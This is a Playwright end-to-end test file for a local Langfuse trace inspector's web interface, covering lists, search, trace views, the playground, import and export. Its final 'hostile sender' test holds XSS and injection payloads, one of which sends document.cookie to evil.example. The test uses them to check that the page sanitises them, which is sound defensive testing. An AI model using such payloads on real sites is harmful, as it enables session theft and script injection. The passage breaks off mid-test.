import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { Browser, BrowserContext, BrowserContextOptions, Page } from 'playwright-core'
import { type Inspector, startInspector } from '../src/index.ts'
import { describeInBrowser, launchBrowser } from './browser.ts'
import { chatExport, chatTrace } from './chat-traces.ts'
import {
  jsonExport,
  jsonSpan,
  openSpan,
  postJson,
  type SpanFixture,
  sendSpans,
  traceId,
} from './span-fixture.ts'

jest.setTimeout(120_000)

let browser: Browser
let inspector: Inspector
const contexts: BrowserContext[] = []
let problems: string[]

/** Opens a page on which whatever goes wrong, or goes elsewhere, is noted. */
const open = async (path: string, options: BrowserContextOptions = {}): Promise<Page> => {
  const context = await browser.newContext({ viewport: { width: 1280, height: 800 }, ...options })
  contexts.push(context)
  const page = await context.newPage()
  page.on('pageerror', error => problems.push(`error: ${error.message}`))
  page.on('dialog', dialog => {
    problems.push(`dialog: ${dialog.message()}`)
    void dialog.dismiss()
  })
  page.on('console', message => {
    if (message.type() === 'error' || message.type() === 'warning') problems.push(message.text())
  })
  page.on('request', request => {
    if (!request.url().startsWith(inspector.url) && !request.url().startsWith('data:'))
      problems.push(`request: ${request.url()}`)
  })
  await page.goto(inspector.url + path)
  return page
}

const rows = (page: Page): ReturnType<Page['locator']> => page.locator('.rows-body [role=row]')

const send = async (...spans: SpanFixture[]): Promise<void> => {
  expect(await sendSpans(inspector.url, ...spans)).toEqual({})
}

describeInBrowser("the inspector's page", () => {
  beforeAll(async () => {
    browser = await launchBrowser()
  })

  afterAll(() => browser?.close())

  beforeEach(async () => {
    problems = []
    inspector = await startInspector({ port: 0, settleMs: 10, maxSpans: 300_000, maxBytes: 1e9 })
  })

  afterEach(async () => {
    await Promise.all(contexts.splice(0).map(context => context.close()))
    await inspector.close()
    expect(problems).toEqual([])
  })

  describe('the list', () => {
    it('invites a newcomer, and shows the first request as it comes', async () => {
      const page = await open('/')
      await page.getByRole('heading', { name: 'Waiting for the first trace' }).waitFor()
      expect(await page.locator('pre').textContent()).toContain(`LANGFUSE_BASE_URL=${inspector.url}`)
      await send(...chatTrace(0))
      await rows(page).first().waitFor()
      const cells = await rows(page).first().locator('[role=gridcell]').allTextContents()
      expect(cells.slice(1)).toEqual([
        '200',
        expect.stringMatching(
          /^●POST \/chatsupportbetaWhere is my order #4711\? → Your order \*\*#4711\*\* left/,
        ),
        'ada',
        's-ada-0',
        '1.5 s',
        '1,238→133',
        '≈$0.0026',
        'claude-sonnet-4-5, text-embedding-3-small',
      ])
    })

    it('puts what comes on top, unless it is paused', async () => {
      await send({ trace: 'a', name: 'first' })
      const page = await open('/')
      await rows(page).filter({ hasText: 'first' }).waitFor()
      await send({ trace: 'b', name: 'second', startMs: 1 })
      await rows(page).filter({ hasText: 'second' }).waitFor()
      expect(await rows(page).locator('.name a').allTextContents()).toEqual(['second', 'first'])
      await page.keyboard.press('p')
      await send({ trace: 'c', name: 'third', startMs: 2 })
      await page.getByText('1 trace came or changed since you paused').waitFor()
      expect(await rows(page).count()).toBe(2)
      await page.getByRole('button', { name: 'Resume', exact: true }).click()
      await rows(page).filter({ hasText: 'third' }).waitFor()
      expect(await rows(page).count()).toBe(3)
    })

    it('is narrowed down by words and by filters, and the address tells to what', async () => {
      await postJson(`${inspector.url}/v1/traces`, chatExport(40))
      const page = await open('/')
      const foot = page.locator('.foot')
      await foot.getByText('40 traces').waitFor()
      await page.getByLabel('Search and filter traces').fill('overloaded_error')
      await foot.getByText(/^[1-9] of 40 traces/).waitFor()
      for (const cell of await rows(page).locator('.status > .status').allTextContents())
        expect(cell).toBe('502')
      await page.getByRole('button', { name: 'Filter' }).click()
      await page.getByLabel('User', { exact: true }).selectOption('grace')
      await foot.getByText(/^[1-3] of 40 traces/).waitFor()
      for (const user of await rows(page).locator('.user').allTextContents()) expect(user).toBe('grace')
      expect(decodeURIComponent(new URL(page.url()).search)).toBe('?q=user:grace+overloaded_error')
      await page.getByRole('button', { name: 'Show all' }).click()
      await foot.getByText('40 traces').waitFor()
    })

    it('is used by keyboard alone', async () => {
      await send({ trace: 'a', name: 'older' }, { trace: 'a', id: '2', parent: '1', name: 'child' })
      await send({ trace: 'b', name: 'newer', startMs: 5 })
      const page = await open('/')
      await rows(page).nth(1).waitFor()
      await page.keyboard.press('/')
      await page.keyboard.type('older')
      await page.locator('.foot').getByText('1 of 2 traces').waitFor()
      await page.keyboard.press('Enter')
      await page.keyboard.press('ArrowDown')
      await page.keyboard.press('Enter')
      await page.getByRole('heading', { name: 'older', level: 1 }).waitFor()
      await page.keyboard.press('ArrowDown')
      await page.keyboard.press('ArrowDown')
      await page.getByRole('heading', { name: 'child', level: 2 }).waitFor()
      await page.keyboard.press('ArrowLeft')
      await page.getByRole('heading', { name: 'older', level: 2 }).waitFor()
      await page.keyboard.press('ArrowLeft')
      expect(await rows(page).count()).toBe(1)
      await page.keyboard.press('ArrowRight')
      expect(await rows(page).count()).toBe(2)
      // The list is narrowed down to this one.
      await page.keyboard.press('[')
      await page.getByText('This is the first trace of the list').waitFor()
      await page.keyboard.press('?')
      await page.getByRole('dialog').waitFor()
      await page.keyboard.press('Escape')
      await page.getByRole('dialog').waitFor({ state: 'hidden' })
      await page.keyboard.press('Escape')
      await page.getByRole('grid', { name: 'Traces' }).waitFor()
      await page.keyboard.press('t')
      expect(await page.locator('html').getAttribute('data-theme')).toBe('light')
    })
  })

  describe('going to and fro', () => {
    const fill = async (): Promise<Page> => {
      const spans = Array.from({ length: 200 }, (_, index) => ({
        trace: (index + 1).toString(16),
        name: index % 2 === 0 ? `even ${index}` : `odd ${index}`,
        startMs: index * 10,
        durationMs: index,
        attributes: { 'user.id': 'ada', 'langfuse.observation.input': `question ${index}` },
      }))
      await send(...spans)
      const page = await open('/?q=route:odd')
      await page.locator('.foot').getByText('100 of 200 traces').waitFor()
      return page
    }

    it('comes back to the filter and the place in the list', async () => {
      const page = await fill()
      await page.locator('.rows').evaluate(list => list.scrollTo(0, 1_000))
      await page.getByText('odd 139', { exact: true }).waitFor()
      const placeOf = async (): Promise<number | undefined> =>
        (await rows(page).filter({ hasText: 'odd 139' }).boundingBox())?.y
      const place = await placeOf()
      await holds(page, 'history.state?.scroll?.Traces === 1000')
      await page.getByText('odd 139', { exact: true }).click()
      await page.getByRole('heading', { name: 'odd 139', level: 1 }).waitFor()
      expect(await page.title()).toBe('odd 139 · Langfuse inspector')
      await page.keyboard.press('Escape')
      await page.locator('.foot').getByText('100 of 200 traces').waitFor()
      await page.getByText('odd 139', { exact: true }).waitFor()
      expect(await placeOf()).toBe(place)
      expect(await page.title()).toBe('route:odd · Langfuse inspector')
    })

    it('steps within the filter, and the link to the list keeps it', async () => {
      const page = await fill()
      await page.getByText('odd 199', { exact: true }).click()
      await page.getByRole('heading', { name: 'odd 199', level: 1 }).waitFor()
      await page.keyboard.press(']')
      await page.getByRole('heading', { name: 'odd 197', level: 1 }).waitFor()
      await page.getByRole('link', { name: 'Traces', exact: true }).click()
      await page.locator('.foot').getByText('100 of 200 traces').waitFor()
    })

    it('opens rows in a new tab with Ctrl, and leaves a selection alone', async () => {
      const page = await fill()
      const row = rows(page).first()
      const [tab] = await Promise.all([
        page.context().waitForEvent('page'),
        row.locator('.time').click({ modifiers: ['Control'] }),
      ])
      await tab.getByRole('heading', { name: 'odd 199', level: 1 }).waitFor()
      expect(new URL(page.url()).pathname).toBe('/')
      const box = (await row.locator('.time').boundingBox())!
      await page.mouse.move(box.x + 2, box.y + 8)
      await page.mouse.down()
      await page.mouse.move(box.x + 90, box.y + 8, { steps: 5 })
      await page.mouse.up()
      expect(new URL(page.url()).pathname).toBe('/')
      expect(String(await page.evaluate('getSelection().toString()')).length).toBeGreaterThan(3)
    })

    it('sorts by a column, in both directions', async () => {
      const page = await fill()
      const names = async (): Promise<string[]> => await rows(page).locator('.name a').allTextContents()
      await page.getByRole('button', { name: 'Duration' }).click()
      await page
        .getByRole('columnheader', { name: 'Duration' })
        .and(page.locator('[aria-sort=descending]'))
        .waitFor()
      expect((await names()).slice(0, 2)).toEqual(['odd 199', 'odd 197'])
      await page.getByRole('button', { name: 'Duration' }).click()
      await page.getByText('odd 1', { exact: true }).waitFor()
      expect((await names()).slice(0, 2)).toEqual(['odd 1', 'odd 3'])
    })

    it('shows where the words that were searched for occur', async () => {
      await send(
        { trace: 'f', name: 'root' },
        {
          trace: 'f',
          id: '2',
          parent: '1',
          name: 'child',
          attributes: {
            'langfuse.observation.input': `${'long '.repeat(600)} Needle in it`,
            'some.attribute': 'x',
          },
        },
      )
      const page = await open('/?q=needle')
      await rows(page).filter({ hasText: 'root' }).click()
      await page.locator('.detail').getByRole('heading', { name: 'child' }).waitFor()
      await page.locator('.row.is-hit').waitFor()
      await holds(page, "CSS.highlights.get('search')?.size === 1")
    })

    it('closes a menu on a click elsewhere and on Escape', async () => {
      const page = await fill()
      const menu = page.locator('details.menu')
      await page.getByLabel('More').click()
      await page.keyboard.press('Escape')
      expect(await menu.getAttribute('open')).toBeNull()
      await page.getByLabel('More').click()
      await page.locator('.foot').click()
      expect(await menu.getAttribute('open')).toBeNull()
    })

    it('says what a query does not know', async () => {
      const page = await open('/')
      await send({ name: 'one' })
      await rows(page).first().waitFor()
      await page.getByLabel('Search and filter traces').fill('duratoin:>1s status:soon')
      await page
        .getByText('duratoin: is no filter and is searched for as text. Did you mean duration:?')
        .waitFor()
      await page.getByText('status: cannot read "soon"').waitFor()
    })
  })

  describe('the loop', () => {
    it('makes a generation again with other words, and shows what differs', async () => {
      const seen: string[] = []
      const llm = createServer(async (request, response) => {
        let body = ''
        for await (const chunk of request) body += chunk
        seen.push(body)
        response.writeHead(200, { 'content-type': 'text/event-stream' })
        response.write('data: {"choices":[{"delta":{"content":"Your order left "}}]}\n\n')
        response.end('data: {"choices":[{"delta":{"content":"at noon."}}]}\n\ndata: [DONE]\n\n')
      })
      await new Promise<void>(resolve => llm.listen(0, '127.0.0.1', () => resolve()))
      const { port } = llm.address() as AddressInfo
      try {
        await send(
          { name: 'POST /chat' },
          {
            id: '2',
            parent: '1',
            name: 'answer',
            attributes: {
              'langfuse.observation.type': 'generation',
              'langfuse.observation.model.name': 'gpt-5',
              'langfuse.observation.model.parameters': '{"temperature":"0.2"}',
              'langfuse.observation.input': '[{"role":"user","content":"Where is it?"}]',
              'langfuse.observation.output': '{"role":"assistant","content":"Your order left this morning."}',
              'langfuse.observation.metadata.url': `http://127.0.0.1:${port}/v1/chat/completions`,
            },
          },
        )
        const page = await open(`/traces/${traceId('a')}?o=0000000000000002`)
        await page.getByRole('link', { name: 'Playground' }).click()
        await page.getByLabel('user').fill('When did it leave?')
        await page.getByRole('button', { name: 'Send' }).click()
        const answers = page.getByRole('region', { name: 'Answers' })
        await answers.locator('ins').filter({ hasText: 'at' }).waitFor()
        expect(await answers.locator('.diff').innerText()).toContain('Your order left')
        expect(JSON.parse(seen[0]!)).toMatchObject({
          model: 'gpt-5',
          temperature: 0.2,
          stream: true,
          messages: [{ role: 'user', content: 'When did it leave?' }],
        })
        await answers.getByRole('link', { name: 'All tries' }).click()
        await page.getByRole('heading', { name: 'playground', level: 1 }).waitFor()
        await rows(page).filter({ hasText: 'try gpt-5' }).waitFor()
      } finally {
        llm.close()
      }
    })

    it('shows a session as a conversation, and a score that is given by hand', async () => {
      await postJson(`${inspector.url}/v1/traces`, chatExport(12))
      const page = await open('/sessions/s-grace-0')
      const turns = page.getByRole('region', { name: 'Conversation' }).getByRole('article')
      await turns.nth(0).getByText('How do I return a pair of shoes').waitFor()
      await turns.nth(1).getByText('Cancel my subscription').waitFor({ state: 'attached' })
      await turns.first().locator('table').waitFor()
      await turns.first().getByRole('link', { name: 'POST /chat' }).click()
      await page.getByRole('button', { name: 'Score', exact: true }).click()
      await page.getByLabel('Name').fill('tone')
      await page.getByLabel('Value').fill('0.5')
      await page.getByLabel('Comment').fill('too short')
      await page.getByRole('button', { name: 'Save score' }).click()
      await page.locator('.trace-head .facts').getByText('★ tone 0.5').waitFor()
      expect(inspector.traces().flatMap(({ scores }) => scores)).toMatchObject([
        { name: 'tone', value: 0.5, comment: 'too short' },
      ])
    })

    it('sums up by route, model and user, and each figure leads to its traces', async () => {
      await postJson(`${inspector.url}/v1/traces`, chatExport(40))
      const page = await open('/overview')
      await page.getByRole('img', { name: 'Requests and errors over time' }).locator('canvas').waitFor()
      const figures = page.getByRole('group', { name: 'Figures' })
      await page.getByRole('button', { name: 'user', exact: true }).click()
      await figures.getByRole('rowheader', { name: 'grace' }).waitFor()
      await page.getByRole('button', { name: 'model', exact: true }).click()
      await figures.getByRole('rowheader', { name: 'gpt-4.1-mini' }).waitFor()
      await page.getByRole('button', { name: 'route', exact: true }).click()
      await figures.getByRole('link', { name: /%\)$/ }).click()
      await page
        .locator('.foot')
        .getByText(/^[1-9] of 40 traces/)
        .waitFor()
      for (const status of await rows(page).locator('.status > .status').allTextContents())
        expect(status).toBe('502')
    })
  })

  describe('messages', () => {
    it('tell a page that does not exist, a trace that was dropped, and an inspector that is gone apart', async () => {
      await inspector.close()
      inspector = await startInspector({ port: 0, settleMs: 10, maxTraces: 2 })
      for (const trace of ['a', 'b', 'c']) await send({ trace, name: `request ${trace}` })
      const page = await open('/nowhere/at/all')
      await page.getByRole('heading', { name: 'Nothing here' }).waitFor()
      await page.goto(`${inspector.url}/traces/${traceId('a')}`)
      await page.getByText('this trace was dropped to make room for newer ones').waitFor()
      await page.goto(`${inspector.url}/traces/${traceId('d')}`)
      await page.getByRole('heading', { name: 'No such trace' }).waitFor()
      await page.goto(inspector.url)
      await page.getByText('1 trace dropped to make room for newer ones').waitFor()
      await inspector.close()
      await page.getByRole('button', { name: 'Pause live updates' }).getByText('Offline').waitFor()
      await page.getByText('request c').click()
      await page.getByRole('heading', { name: 'The inspector does not answer' }).waitFor()
      problems = []
    })

    it('do not call an import of nothing imported', async () => {
      const page = await open('/')
      await page.getByLabel('More').click()
      await page
        .getByLabel('Import OTLP JSON')
        .setInputFiles({ name: 'empty.json', mimeType: 'application/json', buffer: Buffer.from('{}') })
      await page.getByText('empty.json contains no spans: nothing was imported').waitFor()
    })
  })

  describe('a trace', () => {
    it('is shown whole at its own address: tree, waterfall, chat, what it cost', async () => {
      const spans = chatTrace(4)
      await send(...spans)
      const id = traceId(spans[0]!.trace!)
      await postJson(`${inspector.url}/api/public/scores`, {
        traceId: id,
        name: 'helpful',
        value: 1,
        comment: 'solved it',
      })
      const page = await open(`/traces/${id}`)
      await rows(page).nth(5).waitFor()
      expect(await rows(page).locator('.name .text').allTextContents()).toEqual([
        'POST /chat',
        'retrieve-context',
        'embed',
        'plan',
        'find_order',
        'answer',
      ])
      await page.locator('.detail').getByText('solved it').waitFor()
      await rows(page).filter({ hasText: 'answer' }).click()
      const detail = page.getByRole('region', { name: 'Observation' })
      await detail.getByText('temperature 0.2 · max_tokens 800').waitFor()
      expect(await detail.locator('.facts').textContent()).toContain('First tokenafter 729 ms')
      expect(await detail.getByRole('link', { name: 'support-answer v3' }).count()).toBe(1)
      expect(await detail.getByRole('article').locator('h4').allTextContents()).toEqual([
        'system',
        'user',
        'assistant',
        'tool',
        'assistant',
      ])
      expect(await detail.getByText('find_order').count()).toBeGreaterThan(0)
      expect(await detail.locator('td').allTextContents()).toContain('Handed over')
      expect(
        await detail.locator('a[href="https://carrier.example/track/4711"]').getAttribute('rel'),
      ).toContain('noreferrer')
      // The bar's first token stands where 729 of 2449 ms are.
      const mark = await page.locator('.row.active .first-token').getAttribute('style')
      expect(mark).toMatch(/left: 29\.\d+%/)
      await detail.getByRole('button', { name: 'json' }).first().click()
      await detail.getByLabel('Search in this value').fill('friendly')
      await detail.getByText('1 found').waitFor()
      expect(await detail.locator('mark').allTextContents()).toEqual(['friendly'])
      await page.reload()
      await page.locator('.detail').getByRole('heading', { name: 'answer' }).waitFor()
    })

    it('tells first what went wrong, at the observation that it came from', async () => {
      const spans = chatTrace(3)
      await send(...spans)
      const page = await open(`/traces/${traceId(spans[0]!.trace!)}`)
      await page.getByRole('list', { name: 'Problems' }).waitFor()
      expect(await page.getByRole('list', { name: 'Problems' }).locator('li').allTextContents()).toEqual([
        expect.stringMatching(/^✖answerAPIError: 529/),
      ])
      expect(await page.locator('.detail .status-message').textContent()).toMatch(/^APIError: 529/)
    })

    it('shows the stack of an exception, with links into an editor', async () => {
      const exception = {
        name: 'exception',
        timeUnixNano: '1767225600001000000',
        attributes: Object.entries({
          'exception.type': 'TypeError',
          'exception.message': 'x is undefined',
          'exception.stacktrace':
            'TypeError: x is undefined\n    at handler (/home/ada/shop/src/chat.ts:12:7)\n    at next (/home/ada/shop/node_modules/express/lib/router.js:1:2)\n    at node:internal/process/task_queues:95:5',
        }).map(([key, value]) => ({ key, value: { stringValue: value } })),
      }
      const span = jsonSpan({ attributes: { 'langfuse.observation.level': 'ERROR' } })
      await postJson(`${inspector.url}/v1/traces`, jsonExport([{ ...span, events: [exception] }]))
      const page = await open(`/traces/${traceId('a')}`)
      const stack = page.getByRole('group', { name: 'Exception' })
      await stack.getByText('TypeError').first().waitFor()
      expect(await stack.locator('li').allTextContents()).toEqual([
        'at handler (/home/ada/shop/src/chat.ts:12:7)open in editor',
        'at next (/home/ada/shop/node_modules/express/lib/router.js:1:2)open in editor',
        'at node:internal/process/task_queues:95:5',
      ])
      expect(await stack.locator('li.foreign').count()).toBe(2)
      expect(await stack.locator('a').first().getAttribute('href')).toBe(
        'vscode://file/home/ada/shop/src/chat.ts:12:7',
      )
      await page.getByLabel('More').click()
      await page.getByLabel('Open files in').selectOption('Zed')
      expect(await stack.locator('a').first().getAttribute('href')).toMatch(/^zed:/)
    })

    it('has panes whose widths the reader sets, by keyboard too', async () => {
      await send({ name: 'root' })
      const page = await open(`/traces/${traceId('a')}`)
      const splitter = page.getByRole('separator', { name: 'Width of the tree' })
      const width = async (): Promise<number> => (await page.locator('.tree-pane').boundingBox())!.width
      const before = await width()
      await splitter.focus()
      await page.keyboard.press('ArrowLeft')
      expect(await width()).toBeLessThan(before)
      const box = (await splitter.boundingBox())!
      await page.mouse.move(box.x + 3, box.y + 100)
      await page.mouse.down()
      await page.mouse.move(900, box.y + 100, { steps: 4 })
      await page.mouse.up()
      expect(await width()).toBeGreaterThan(850)
      await page.reload()
      await splitter.waitFor()
      expect(await width()).toBeGreaterThan(850)
    })

    it('shows the text of a generation as it grows, and how long it has run', async () => {
      const startMs = Date.now() - 1_767_225_600_000
      const attributes = (text: string): Record<string, string> => ({
        'langfuse.observation.type': 'generation',
        'langfuse.observation.output': text,
        'user.id': 'ada',
        'session.id': 's-1',
      })
      const show = (text: string): Promise<Response> =>
        postJson(
          `${inspector.url}/api/running`,
          jsonExport([openSpan({ startMs, attributes: attributes(text) })]),
        )
      await show('Once')
      const page = await open(`/traces/${traceId('a')}`)
      const detail = page.getByRole('region', { name: 'Observation' })
      await detail.getByText('Once', { exact: true }).waitFor()
      expect(await page.locator('.trace-head').getByText('s-1').count()).toBe(1)
      await show('Once upon a time')
      await detail.getByText('Once upon a time').waitFor()
      await page
        .locator('.trace-head .facts')
        .getByText(/^[1-9]\.\d s$/)
        .waitFor()
    })

    it('shows what runs, and that it has ended', async () => {
      const startMs = Date.now() - 1_767_225_600_000
      const running = [openSpan({ startMs }), openSpan({ id: '2', parent: '1', name: 'answer', startMs })]
      await postJson(`${inspector.url}/api/running`, jsonExport(running))
      const page = await open(`/traces/${traceId('a')}`)
      await page.locator('.trace-head').getByText('running').waitFor()
      expect(await page.locator('.row.is-running').count()).toBe(2)
      await send({ id: '2', parent: '1', name: 'answer', startMs })
      await page.locator('.row:not(.is-running)').filter({ hasText: 'answer' }).waitFor()
      await send({ startMs, attributes: { 'langfuse.observation.metadata.statusCode': '201' } })
      await page.locator('.trace-head').getByText('201').waitFor()
      expect(await page.locator('.row.is-running').count()).toBe(0)
    })

    it('folds long histories and long texts, and shows images without fetching them', async () => {
      const turns = Array.from({ length: 60 }, (_, index) => ({
        role: index % 2 === 0 ? 'user' : 'assistant',
        content: `turn ${index} `,
      }))
      const last = [
        { type: 'text', text: `${'long '.repeat(1_000)}END` },
        { type: 'image_url', image_url: { url: 'https://elsewhere.example/cat.png' } },
        {
          type: 'text',
          text: '![alt](https://elsewhere.example/dog.png) @@@langfuseMedia:type=image/png|id=x|source=bytes@@@',
        },
      ]
      const input = JSON.stringify([...turns, { role: 'user', content: last }])
      await send({ attributes: { 'langfuse.observation.input': input } })
      const page = await open(`/traces/${traceId('a')}`)
      await page.getByRole('article').first().waitFor()
      expect(await page.getByRole('article').count()).toBe(5)
      expect(await page.locator('.chat').textContent()).not.toContain('END')
      await page.getByRole('button', { name: /more characters/ }).click()
      expect(await page.locator('.chat').textContent()).toContain('END')
      expect(await page.locator('.media.reference').allTextContents()).toEqual([
        'media https://elsewhere.example/cat.png',
        expect.stringMatching(/^image\/png @@@langfuseMedia/),
      ])
      await page.getByRole('button', { name: 'user message as Markdown' }).last().click()
      expect(await page.locator('.media.reference').allTextContents()).toContain(
        'media https://elsewhere.example/dog.png',
      )
      await page.getByRole('button', { name: 'Show 56 earlier messages' }).click()
      expect(await page.getByRole('article').count()).toBe(61)
    })

    it('shows an input exactly as it was sent, and as Markdown if the reader wants that', async () => {
      const question = 'Q: 2*3*4\n\tA:  **12**\n# no heading'
      const input = { messages: [{ role: 'user', content: question }], temperature: 0.2, tools: [] }
      await send({
        attributes: {
          'langfuse.observation.input': JSON.stringify(input),
          'langfuse.observation.output': 'one\ntwo *three*',
        },
      })
      const page = await open(`/traces/${traceId('a')}`)
      const message = page.getByRole('article', { name: 'user' })
      expect(await message.locator('.plain').innerText()).toBe(question)
      await page.getByRole('button', { name: 'user message as Markdown' }).click()
      await message.locator('strong', { hasText: '12' }).waitFor()
      await page.getByText('Other fields (2)').click()
      expect(await page.locator('.chat .more .json').innerText()).toContain('temperature')
      // A line break stays one in Markdown, too.
      expect(await page.getByRole('group', { name: 'Output', exact: true }).locator('p br').count()).toBe(1)
    })

    it('is copied as cURL, as a test case and as a link', async () => {
      const spans = chatTrace(1)
      await send(...spans)
      const id = traceId(spans[0]!.trace!)
      const page = await open(`/traces/${id}`, { permissions: ['clipboard-read', 'clipboard-write'] })
      const copied = async (button: string, said: string): Promise<unknown> => {
        await page.getByRole('button', { name: button }).click()
        await page.getByText(`${said} copied`).waitFor()
        return await page.evaluate('navigator.clipboard.readText()')
      }
      expect(await copied('Copy as cURL', 'cURL')).toBe(
        `curl -X POST http://localhost:3000/chat \\\n  -H 'content-type: application/json' \\\n  --data-raw '{"question":"How do I return a pair of shoes that I bought in the sale?"}'\n# origin not captured: http://localhost:3000 is a guess`,
      )
      expect(await copied('Copy as test case', 'Test case')).toContain('test("POST /chat answers 200"')
      expect(await copied('Copy link', 'Link')).toBe(`${inspector.url}/traces/${id}`)
    })

    it('is sent on to Langfuse once that is confirmed, where there are keys', async () => {
      const langfuse = await startInspector({ port: 0, settleMs: 10 })
      await inspector.close()
      const sendTo = { baseUrl: langfuse.url, publicKey: 'pk', secretKey: 'sk' }
      inspector = await startInspector({ port: 0, settleMs: 10, sendTo })
      await send({ name: 'POST /chat' })
      const page = await open(`/traces/${traceId('a')}`)
      await page.getByRole('button', { name: 'Send to Langfuse' }).click()
      expect(langfuse.traces()).toEqual([])
      await page.getByRole('button', { name: `Send to 127.0.0.1:${langfuse.port}?` }).click()
      await page.getByText(`Sent to ${langfuse.url}`).waitFor()
      expect(langfuse.trace(traceId('a'))?.name).toBe('POST /chat')
      await langfuse.close()
    })
  })

  describe('other views', () => {
    it('are sessions and users, each with its traces', async () => {
      await postJson(`${inspector.url}/v1/traces`, chatExport(40))
      const page = await open('/')
      await page.getByRole('link', { name: 'Users' }).click()
      await rows(page).nth(4).waitFor()
      expect(await rows(page).count()).toBe(5)
      await rows(page).filter({ hasText: 'grace' }).click()
      await page.getByRole('heading', { name: 'User grace' }).waitFor()
      expect(await rows(page).count()).toBe(8)
      await page.goto(`${inspector.url}/sessions/s-grace-0`)
      await page.getByRole('heading', { name: 'Session s-grace-0' }).waitFor()
      await page.locator('.conversation .turn').nth(1).waitFor()
      expect(await page.locator('.conversation .turn').count()).toBe(2)
    })

    it('is two traces side by side', async () => {
      const [left, right] = [chatTrace(1), chatTrace(3)]
      await send(...left, ...right.slice(0, 4))
      const page = await open('/')
      await rows(page).nth(1).waitFor()
      await rows(page).nth(1).click()
      await page.getByRole('button', { name: 'Compare' }).click()
      await page.getByText('Choose the trace to compare with').waitFor()
      await rows(page).first().click()
      await page.getByRole('heading', { name: 'Comparison' }).waitFor()
      const lines = await rows(page).locator('[role=gridcell] .text').allTextContents()
      expect(lines).toHaveLength(6 + 4)
      expect(await page.locator('.cell.absent').count()).toBe(2)
      await rows(page).filter({ hasText: 'plan' }).click()
      await page.locator('.compare-detail .chat').nth(3).waitFor()
    })

    it('exports what another inspector imports', async () => {
      await postJson(`${inspector.url}/v1/traces`, chatExport(12))
      const before = inspector.traces().map(({ id, durationMs }) => [id, durationMs])
      const page = await open('/')
      await page.getByLabel('More').click()
      const [download] = await Promise.all([
        page.waitForEvent('download'),
        page.getByRole('link', { name: 'Export all' }).click(),
      ])
      const folder = mkdtempSync(join(tmpdir(), 'inspector-'))
      const file = join(folder, download.suggestedFilename())
      await download.saveAs(file)
      inspector.clear()
      await page.getByRole('heading', { name: 'Waiting for the first trace' }).waitFor()
      await page.getByLabel('More').click()
      await page.getByLabel('Import OTLP JSON').setInputFiles(file)
      await page.getByText(/^traces\.jsonl: \d+ spans imported$/).waitFor()
      expect(inspector.traces().map(({ id, durationMs }) => [id, durationMs])).toEqual(before)
      writeFileSync(file, '{"resourceSpans": 1}')
      await page.getByLabel('More').click()
      await page.getByLabel('Import OTLP JSON').setInputFiles(file)
      await page.getByText('could not be imported').waitFor()
      rmSync(folder, { recursive: true })
      problems = problems.filter(problem => !problem.includes('status of 400'))
    })
  })

  describe('a hostile sender', () => {
    const script = "window.pwned = true; fetch('https://evil.example/' + document.cookie)"
    const payloads = [
      `<script>${script}</script>`,
      `<img src=x onerror="${script}">`,
      `<svg/onload="${script}"><iframe srcdoc="<script>parent.pwned=1</script>">`,
      `"><style>*{display:none}</style><base href=//evil.example><meta http-equiv=refresh content="0;url=//evil.example">`,
      `[click](javascript:${encodeURIComponent(script)}) [b](data:text/html,<script>${script}</script>) ![i](https://evil.example/x.png) <https://evil.example>`,
      `javascript:${script}`,
      // biome-ignore lint/suspicious/noTemplateCurlyInString: it is meant to be one
      '</script></textarea></title>{{constructor.constructor("window.pwned=1")()}}${pwned=1}',
      '\u202etxt.exe\u2066\u0000\u001b[2J\ud800 z̸̧̨̛̛͖͙͚̈́̓́̒ ',
      '__proto__',
      `${'>'.repeat(3_000)} ${'['.repeat(3_000)} ${'*_'.repeat(3_000)} ${'- '.repeat(2_000)}`,
      `| a |\n|---|\n${'| x '.repeat(2_000)}|`,
    ]

    it('runs no script, fetches nothing, and breaks nothing', async () => {
      for (const [index, payload] of payloads.entries()) {
        const chat = [
          { role: 'user', content: payload },
          {
            role: 'assistant',
            content: [{ type: 'image_url', image_url: { url: payload } }],
            tool_calls: [{ id: payload, function: { name: payload, arguments: payload } }],
          },
        ]
        const attributes = {
          'user.id': payload,
          'session.id': payload,
          'langfuse.trace.tags': JSON.stringify([payload]),
          'langfuse.observation.type': payload,
          'langfuse.observation.level': 'ERROR',
          'langfuse.observation.status_message': payload,
          'langfuse.observation.model.name': payload,
          'langfuse.observation.model.parameters': JSON.stringify({ [payload]: payload }),
          'langfuse.observation.usage_details': JSON.stringify({ [payload]: 1e308, input: -5 }),
          'langfuse.observation.cost_details': JSON.stringify({ [payload]: 3 }),
          'langfuse.observation.prompt.name': payload,
          'langfuse.observation.input': JSON.stringify(chat),
          'langfuse.observation.output': payload,
          [`langfuse.observation.metadata.${payload}`]: JSON.stringify({ [payload]: [payload] }),
          [payload]: payload,
        }
        const trace = (index + 1).toString(16)
        await send({ trace, name: payload, attributes }, { trace, id: '2', parent: '1', name: payload })
        await postJson(`${inspector.url}/api/public/scores`, {
          traceId: traceId(trace),
          name: payload,
          value: payload,
          comment: payload,
        })
      }
      const page = await open('/')
      await rows(page)
        .nth(payloads.length - 1)
        .waitFor()
      for (const path of ['/sessions', '/users', `/compare/${traceId('1')}/${traceId('2')}`]) {
        await page.goto(inspector.url + path)
        await rows(page).first().waitFor()
      }
      for (const [index, payload] of payloads.entries()) {
        await page.goto(
          `${inspector.url}/sessions/${encodeURIComponent(payload.slice(0, 300).replace(/\p{Surrogate}/gu, '\ufffd'))}`,
        )
        await page.locator('main').waitFor()
        await page.goto(`${inspector.url}/traces/${traceId((index + 1).toString(16))}`)
        await page.locator('.payload').nth(2).waitFor()
        for (const view of ['json', 'raw', 'chat', 'text']) {
          for (const button of await page
            .locator('.choice')
            .getByRole('button', { name: view, exact: true })
            .all())
            await button.click()
        }
        for (const summary of await page.locator('details.more summary').all()) await summary.click()
        await page.locator('details.more .json').first().waitFor()
        expect(
          await page.locator('main :is(script, iframe, object, embed, style, base, meta, svg, form)').count(),
        ).toBe(0)
        expect(
          await page.locator('main [src]:not([src^="data:image/"]), main [onerror], main [onload]').count(),
        ).toBe(0)
        for (const link of await page.locator('main a').all()) {
          expect(await link.getAttribute('href')).toMatch(/^(\/|https?:)/)
        }
      }
      expect(await page.evaluate('[window.pwned, ({}).polluted]')).toEqual([undefined, undefined])
    })

    it('does not stop the page with what is deep, long, wide, out of time or without end', async () => {
      const deep = `${'[{"a":'.repeat(20_000)}1${'}]'.repeat(20_000)}`
      const attributes = Object.fromEntries(
